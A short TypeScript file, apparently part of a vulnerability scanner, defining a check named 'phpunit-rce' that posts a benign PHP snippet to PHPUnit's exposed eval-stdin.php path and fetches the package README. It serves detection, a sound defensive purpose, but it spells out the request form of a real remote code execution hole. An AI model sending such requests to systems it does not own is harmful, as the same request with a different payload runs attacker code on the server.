import { type Proof, get, post, proof } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'phpunit-rce',
    post('/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '<?php echo 1;'),
    get('/vendor/phpunit/phpunit/README.md'),
  ),
]
